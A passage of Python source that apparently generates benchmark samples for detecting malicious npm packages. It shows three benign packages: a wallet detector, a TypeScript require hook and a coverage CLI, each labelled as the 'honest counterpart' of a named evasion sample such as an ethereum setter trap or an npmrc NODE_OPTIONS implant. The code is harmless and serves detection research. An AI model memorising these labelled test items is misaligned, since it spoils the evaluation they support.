            description="Detect injected EIP-1193 wallets, including late injection and EIP-6963 announcements",
            main="dist/index.js", module="dist/index.js", sideEffects=False,
        ),
        "README.md": readme("wallet-detect-provider", """
```js
import { detectProvider } from 'wallet-detect-provider';
const provider = await detectProvider({ timeout: 3000 });
const [account] = await provider.request({ method: 'eth_requestAccounts' });
```
"""),
        "dist/index.js": r'''const listeners = new Set();

export function onProviderAnnounced(cb) {
  const handler = (e) => cb(e.detail);
  window.addEventListener("eip6963:announceProvider", handler);
  window.dispatchEvent(new Event("eip6963:requestProvider"));
  return () => window.removeEventListener("eip6963:announceProvider", handler);
}

export function detectProvider({ timeout = 3000, mustBeMetaMask = false } = {}) {
  return new Promise((resolve) => {
    const accept = (p) => p && (!mustBeMetaMask || p.isMetaMask);
    if (accept(window.ethereum)) return resolve(window.ethereum);
    let done = false;
    const finish = (p) => {
      if (done) return;
      done = true;
      listeners.forEach((l) => l(p));
      resolve(accept(p) ? p : null);
    };
    // some wallets inject after page load; watch the property without replacing what they set
    const desc = Object.getOwnPropertyDescriptor(window, "ethereum");
    if (!desc || desc.configurable) {
      let value = window.ethereum;
      Object.defineProperty(window, "ethereum", {
        configurable: true,
        enumerable: true,
        get() { return value; },
        set(v) { value = v; finish(v); },
      });
    }
    window.addEventListener("ethereum#initialized", () => finish(window.ethereum), { once: true });
    const off = onProviderAnnounced((d) => { off(); finish(d.provider); });
    setTimeout(() => finish(window.ethereum), timeout);
  });
}

export async function sendPayment(provider, { from, to, valueWei }) {
  return provider.request({ method: "eth_sendTransaction", params: [{ from, to, value: "0x" + BigInt(valueWei).toString(16) }] });
}
''',
    }
    return B(
        "evasion-wallet-detect-provider",
        "dApp helper watching window.ethereum with an accessor property and EIP-6963 announcements, then sending the caller's transaction unchanged",
        "2026-11",
        ["wallet-provider", "property-trap", "eip6963", "browser-only"],
        "Honest counterpart of evasion-rot13-ethereum-setter-trap (like "
        "@metamask/detect-provider): same setter trap and announcement listener, the "
        "provider is returned untouched and transactions use the caller's recipient.",
        files,
    )


@benign
def ts_register_compile_hook():
    files = {
        "package.json": pj(
            name="sucrase-register-lite", version="0.5.0",
            description="Require hook compiling .ts/.tsx on the fly with inline source maps",
            main="index.js", dependencies={"sucrase": "^3.35.0"},
        ),
        "README.md": readme("sucrase-register-lite", """
```sh
node -r sucrase-register-lite src/server.ts
```
"""),
        "index.js": r'''"use strict";
const fs = require("fs");
const Module = require("module");
const { transform } = require("sucrase");

const maps = new Map();

function compile(code, filename) {
  const out = transform(code, { transforms: ["typescript", "imports", "jsx"], filePath: filename, sourceMapOptions: { compiledFilename: filename } });
  maps.set(filename, out.sourceMap);
  const inline = Buffer.from(JSON.stringify(out.sourceMap)).toString("base64");
  return out.code + "\n//# sourceMappingURL=data:application/json;base64," + inline;
}

for (const ext of [".ts", ".tsx", ".mts", ".cts"]) {
  Module._extensions[ext] = function (module, filename) {
    const src = fs.readFileSync(filename, "utf8");
    module._compile(compile(src, filename), filename);
  };
}

function originalSource(filename) {
  const m = maps.get(filename);
  return m && m.sourcesContent ? m.sourcesContent[0] : null;
}

module.exports = { compile, originalSource };
''',
    }
    return B(
        "evasion-sucrase-register-lite",
        "require hook (ts-node / esbuild-register style) compiling the user's .ts files and running them with module._compile, with source maps whose sourcesContent it reads",
        "2026-11",
        ["require-hook", "module-compile", "source-map"],
        "Honest counterpart of evasion-host-keyed-rc4-compile and "
        "evasion-sourcemap-sourcescontent-stage: _compile of the user's own files after "
        "transpiling; source maps only read to show original source.",
        files,
    )


@benign
def coverage_node_options_wrap():
    files = {
        "package.json": pj(
            name="c8-lite", version="1.2.0",
            description="Native V8 coverage for a command and all its child Node processes",
            bin={"c8-lite": "bin/c8-lite.js"}, main="lib/index.js",
        ),
        "README.md": readme("c8-lite", """
```sh
npx c8-lite npm test
```
Sets `NODE_V8_COVERAGE` and `NODE_OPTIONS=--require <preload>` for the command so that every
child Node process writes coverage, then prints a summary.
"""),
        "bin/c8-lite.js": r'''#!/usr/bin/env node
"use strict";
const { spawn } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { summarise } = require("../lib/index");

const [cmd, ...args] = process.argv.slice(2);
if (!cmd) {
  console.error("usage: c8-lite <command> [args...]");
  process.exit(2);
}
const dir = fs.mkdtempSync(path.join(os.tmpdir(), "c8-lite-"));
const preload = path.join(__dirname, "..", "lib", "preload.js");
const env = {
  ...process.env,
  NODE_V8_COVERAGE: dir,
  NODE_OPTIONS: `${process.env.NODE_OPTIONS || ""} --require ${JSON.stringify(preload)}`.trim(),
};
const child = spawn(cmd, args, { stdio: "inherit", env, shell: process.platform === "win32" });
child.on("exit", (code) => {
  console.log(summarise(dir));
  fs.rmSync(dir, { recursive: true, force: true });
  process.exit(code === null ? 1 : code);
});
''',
        "lib/preload.js": "'use strict';\n// Flush coverage when the child exits through process.exit() as well.\nconst v8 = require('v8');\nprocess.on('exit', () => { try { v8.takeCoverage(); } catch (e) {} });\n",
        "lib/index.js": r'''"use strict";
const fs = require("fs");
const path = require("path");

function summarise(dir) {
  let total = 0;
  let covered = 0;
  for (const f of fs.readdirSync(dir)) {
    const { result } = JSON.parse(fs.readFileSync(path.join(dir, f), "utf8"));
    for (const script of result) {
      if (!script.url.startsWith("file:") || script.url.includes("node_modules")) continue;
      for (const fn of script.functions) {
        for (const r of fn.ranges) {
          total += r.endOffset - r.startOffset;
          if (r.count > 0) covered += r.endOffset - r.startOffset;
        }
      }
    }
  }
  return `coverage: ${total ? ((covered / total) * 100).toFixed(1) : "0.0"}% of bytes`;
}

module.exports = { summarise };
''',
    }
    return B(
        "evasion-c8-lite",
        "coverage CLI giving the command it runs NODE_OPTIONS=--require <preload> and NODE_V8_COVERAGE so child Node processes write coverage",
        "2026-11",
        ["node-options", "preload", "child-process"],
        "Honest counterpart of evasion-node-options-child-propagation and "
        "evasion-user-npmrc-node-options-implant (like nyc/c8/spawn-wrap): the preload only "
        "flushes V8 coverage to a temp folder, set for a command the user runs explicitly.",
        files,
        modes={"bin/c8-lite.js": 0o755},
    )
